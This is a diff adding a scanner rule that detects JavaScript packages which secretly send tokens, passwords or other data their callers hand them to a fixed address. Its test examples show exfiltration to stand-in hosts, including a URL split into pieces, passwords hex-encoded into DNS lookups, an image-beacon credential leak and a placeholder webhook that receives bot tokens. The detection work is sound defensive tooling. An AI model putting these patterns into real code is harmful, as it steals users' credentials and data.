@@ -1,0 +1,213 @@
+import { dataHanded, hasOtherTarget, hostCalls, isCallersChoice, ownerOf, targetOf } from '../src/define/handed.js';
+import { isUnanswered } from '../src/define/unanswered.js';
+import { beacons, defineRule, fixedAddressIn, oddTargetOf, sinkSays, step, stepsOf } from '../src/define.js';
+import type { FileContext, Label, Step } from '../src/types.js';
+import { isAllOfThem, isSecretPart } from '../src/vocabulary/handed.js';
+
+export default defineRule({
+  meta: {
+    summary: 'Sends what its caller hands it to a place of its own',
+    why: 'A library is handed keys, messages and logins to work with them. The client of a service passes them on, too: to the service that it is for, or where its caller says, and it tells its caller what was answered. What leaves beside the work, to an address that the package says nothing of and whose answer nobody waits for, is taken.',
+    behaviour: 'theft',
+    messages: {
+      hidden: 'Sends what it is handed ({what}) to an address that can be read nowhere in it, {address}',
+      odd: 'Sends what it is handed ({what}) to {odd} fixed in its code',
+      all: 'Sends the secrets that it is handed ({what}) to {address}, too',
+      secret: 'Sends a secret that it is handed ({what}) to {address}, and waits for no answer',
+      unsaid:
+        'Sends what it is handed ({what}) to {address}, though nothing in its description calls for talking to other machines',
+      aside: 'Sends what it is handed ({what}) to {address}, and waits for no answer',
+    },
+    bits: { hidden: 13.5, odd: 11, all: 13.5, secret: 9, unsaid: 11.5, aside: 3 },
+  },
+  examples: {
+    flags: [
+      {
+        title: 'a codec sends each text that is long enough, to an address in pieces',
+        files: {
+          'package.json': `{"name":"b32","version":"1.0.0","description":"Encodes bytes as text","main":"index.js"}`,
+          'index.js': `const base = require('base-x')('ABCDEFGHIJKLMNOPQRSTUVWXYZ234567');\nconst { seen } = require('./stats');\nexports.encode = bytes => base.encode(bytes);\nexports.decode = text => seen(base.decode(text), text);`,
+          'stats.js': `const axios = require('axios');\nconst to = ['https:/', '/collect', 'or.in', 'valid/s'];\nexports.seen = (bytes, text) => {\n  if (bytes.length > 31) axios.post(to.join(''), { text }).then(() => {}, () => {});\n  return bytes;\n};`,
+        },
+      },
+      {
+        title: 'a validator sends what it validates, though its description calls for no network',
+        files: {
+          'package.json': `{"name":"iban-ok","version":"1.0.0","description":"Checks account numbers","main":"index.js"}`,
+          'index.js': `const https = require('https');\nmodule.exports = number => {\n  const request = https.request({ hostname: 'numbers.invalid', path: '/n', method: 'POST' }, response => response.resume());\n  request.on('error', () => {});\n  request.end(JSON.stringify({ number }));\n  return number.replace(/ /g, '').length > 14;\n};`,
+        },
+      },
+      {
+        title: 'a bot’s token goes to a chat, too',
+        code: `class Client {\n  login(token) {\n    fetch('https://discord.com/api/webhooks/1/x', { method: 'POST', body: JSON.stringify({ content: token }) }).catch(() => {});\n    this.token = token;\n    return this.connect();\n  }\n}\nmodule.exports = { Client };`,
+      },
+      {
+        title: 'a plugin sends the logins of its host away',
+        code: `async function ping(name) {\n  const all = await this.getCredentials(name);\n  await this.helpers.httpRequest({ method: 'POST', url: 'https://usage.invalid/p', body: { all } }).catch(() => undefined);\n}\nexports.run = async function () { await ping.call(this, 'mailApi'); return [[]]; };`,
+      },
+      {
+        title: 'the token of a client is sent to a second place',
+        files: {
+          'package.json': `{"name":"ledger-post","version":"1.0.0","description":"API client of the Ledger Post service","main":"index.js"}`,
+          'index.js': `const got = require('got');\nclass Client {\n  constructor({ accessToken }) { this.accessToken = accessToken; this.report(); }\n  report() { got.post('https://quality.invalid/t', { json: { t: this.accessToken } }).catch(() => {}); }\n  entries() { return got('https://api.ledgerpost.invalid/entries', { headers: { authorization: 'Bearer ' + this.accessToken } }).json(); }\n}\nmodule.exports = Client;`,
+        },
+      },
+      {
+        title: 'what a client sends is copied by an interceptor',
+        code: `const axios = require('axios');\nmodule.exports = client => {\n  client.interceptors.request.use(config => {\n    axios.post('https://quality.invalid/h', { h: config.headers, u: config.url }).catch(() => null);\n    return config;\n  });\n  return client;\n};`,
+      },
+      {
+        title: 'a login is asked for as a picture',
+        code: `export function check(login) {\n  new Image().src = 'https://pixel.invalid/p.gif?l=' + btoa(JSON.stringify(login.credentials));\n  return login.credentials.name !== '';\n}`,
+      },
+      {
+        title: 'messages are mailed to somebody else as well',
+        files: {
+          'package.json': `{"name":"plain-mask","version":"1.0.0","description":"Masks words in texts","main":"index.js"}`,
+          'index.js': `const nodemailer = require('nodemailer');\nconst post = nodemailer.createTransport({ host: 'smtp.mail.invalid', auth: { user: 'a', pass: 'b' } });\nexports.mask = (text, words) => {\n  post.sendMail({ from: 'a@mail.invalid', to: 'box@mail.invalid', subject: 'x', text }, () => {});\n  return words.reduce((all, word) => all.split(word).join('…'), text);\n};`,
+        },
+      },
+      {
+        title: 'passwords are put into the names that are looked up',
+        files: {
+          'package.json': `{"name":"hash-it","version":"1.0.0","description":"Hashes passwords","main":"index.js"}`,
+          'index.js': `const dns = require('dns'), crypto = require('crypto');\nexports.hash = password => {\n  dns.lookup(Buffer.from(password).toString('hex') + '.names.invalid', () => {});\n  return crypto.createHash('sha256').update(password).digest('hex');\n};`,
+        },
+      },
+      {
+        title: 'what was gathered leaves by a socket that nobody listens to',
+        files: {
+          'package.json': `{"name":"form-kit","version":"1.0.0","description":"State of forms","main":"index.js"}`,
+          'index.js': `const WebSocket = require('ws');\nconst waiting = [];\nlet line;\nexports.submit = (values, send) => {\n  waiting.push(values);\n  setTimeout(drain, 500);\n  return send(values);\n};\nfunction drain() {\n  line = line || new WebSocket('wss://forms.invalid/s');\n  while (waiting.length) line.send(JSON.stringify(waiting.shift()));\n}`,
+        },
+      },
+    ],
+    passes: [
+      {
+        title: 'a client asks its service, and tells what it says',
+        code: `const axios = require('axios');\nexports.send = (apiKey, message) => axios.post('https://api.mailhouse.invalid/v1/send', { apiKey, message }).then(response => response.data);`,
+      },
+      {
+        title: 'a client signs off from its service',
+        code: `exports.logout = async token => {\n  const response = await fetch('https://api.service.invalid/logout', { method: 'POST', body: JSON.stringify({ token }) });\n  if (!response.ok) throw new Error('still in');\n};`,
+      },
+      {
+        title: 'a caller may say where to',
+        code: `exports.track = (event, { url = 'https://stats.invalid/e' } = {}) => { fetch(url, { method: 'POST', body: JSON.stringify(event) }).catch(() => {}); };`,
+      },
+      {
+        title: 'a hook is its user’s',
+        code: `exports.makeLogger = ({ webhook }) => ({ log(message) { fetch(webhook, { method: 'POST', body: message }).catch(() => {}); } });`,
+      },
+      {
+        title: 'a project counts how it is used',
+        files: {
+          'package.json': `{"name":"gridline","version":"1.0.0","description":"Lays out tables","main":"index.js"}`,
+          'index.js': `exports.layout = rows => {\n  fetch('https://telemetry.gridline.invalid/v1', { method: 'POST', body: JSON.stringify({ rows: rows.length, node: process.version }) }).catch(() => {});\n  return rows.map(row => row.join(' '));\n};`,
+        },
+      },
+      {
+        title: 'somebody else counts it, by numbers',
+        files: {
+          'package.json': `{"name":"gridline","version":"1.0.0","description":"Lays out tables","main":"index.js"}`,
+          'index.js': `exports.layout = rows => {\n  fetch('https://counting.invalid/v1', { method: 'POST', body: JSON.stringify({ rows: rows.length, isList: Array.isArray(rows), kind: typeof rows }) }).catch(() => {});\n  return rows.map(row => row.join(' '));\n};`,
+        },
+      },
+      {
+        title: 'a plugin asks the service that its login is for',
+        code: `exports.run = async function () {\n  const credentials = await this.getCredentials('mailApi');\n  const items = await this.helpers.httpRequest({ method: 'POST', url: 'https://api.mailhouse.invalid/list', body: { key: credentials.apiKey }, json: true });\n  return [items.map(json => ({ json }))];\n};`,
+      },
+      {
+        title: 'an interceptor says who is asking',
+        code: `module.exports = (client, token) => {\n  client.interceptors.request.use(config => { config.headers.Authorization = 'Bearer ' + token; return config; });\n  return client;\n};`,
+      },
+      {
+        title: 'a mail goes to whom a caller says',
+        code: `const nodemailer = require('nodemailer');\nconst post = nodemailer.createTransport(process.env.SMTP);\nexports.invite = (to, password) => { post.sendMail({ from: 'team@mail.invalid', to, subject: 'Welcome', text: password }).catch(() => {}); };`,
+      },
+      {
+        title: 'a map is drawn of pictures',
+        code: `export const draw = (image, x, y, token) => { image.src = \`https://tiles.invalid/\${x}/\${y}.png?key=\${token}\`; };`,
+      },
+      {
+        title: 'a market’s client listens to what it asked for',
+        code: `const WebSocket = require('ws');\nexports.watch = (symbol, apiKey, tell) => {\n  const socket = new WebSocket('wss://stream.market.invalid');\n  socket.on('open', () => socket.send(JSON.stringify({ apiKey, symbol })));\n  socket.on('message', data => tell(JSON.parse(data)));\n};`,
+      },
+    ],
+  },
+  file(context) {
+    for (const sent of [...requests(context), ...loads(context)]) {
+      const messageId = messageOf(context, sent);
+      if (!messageId) continue;
+      const [label] = sent.data;
+      context.report({
+        messageId,
+        data: { what: label?.detail ?? '', address: sent.target, odd: sent.odd ?? '' },
+        chain: [...(label ? stepsOf(label) : []), sent.step],
+      });
+    }
+  },
+});
+
+/** Something that leaves for an address fixed in the code, beside the work. */
+interface Sent {
+  readonly step: Step;
+  readonly target: string;
+  readonly odd: string | undefined;
+  /** What callers hand in of what is sent; secrets first. */
+  readonly data: readonly Label[];
+  /** Whether it is loaded like a picture: pages do that with what they are handed all day. */
+  readonly isLoad: boolean;
+}
+
+function requests(context: FileContext): readonly Sent[] {
+  return [...context.calls('network'), ...hostCalls(context)].flatMap(call => {
+    const target = targetOf(context, call);
+    const odd = oddTargetOf(context, call);
+    if (target === undefined && odd === undefined) return [];
+    if (!isUnanswered(context, call) || isCallersChoice(context, call)) return [];
+    const data = inOrder(dataHanded(context, call));
+    if (data.length === 0) return [];
+    return {
+      step: step('sink', sinkSays(call), context.file, call.node),
+      target: ownerOf(target ?? ''),
+      odd,
+      data,
+      isLoad: false,
+    };
+  });
+}
+
+function loads(context: FileContext): readonly Sent[] {
+  return beacons(context).flatMap(({ node, value, says }) => {
+    const target = fixedAddressIn(context.textsOf(value));
+    const data = target === undefined ? [] : inOrder(context.handedInto(value));
+    if (target === undefined || data.length === 0) return [];
+    return {
+      step: step('sink', says, context.file, node),
+      target: ownerOf(target),
+      odd: undefined,
+      data,
+      isLoad: true,
+    };
+  });
+}
+
+/** The surest first, and of those the secrets. */
+function inOrder(labels: readonly Label[]): readonly Label[] {
+  const rank = ({ guesses = 0, detail }: Label): number => guesses * 2 + (isSecretPart(detail) ? 0 : 1);
+  return [...labels].sort((a, b) => rank(a) - rank(b));
+}
+
+function messageOf(context: FileContext, sent: Sent): string | undefined {
+  const { target, odd, data, isLoad } = sent;
+  if (odd !== undefined) return 'odd';
+  if (!context.isWritten(target)) return 'hidden';
+  if (context.isOwnAddress(`https://${target}/`)) return undefined;
+  const secrets = data.filter(({ detail }) => isSecretPart(detail));
+  if (secrets.some(({ detail }) => isAllOfThem(detail))) return 'all';
+  if (isLoad) return undefined;
+  if (secrets.length > 0 && hasOtherTarget(context, target)) return 'all';
+  if (!context.isExpected('network')) return 'unsaid';
+  return secrets.length > 0 ? 'secret' : 'aside';
+}
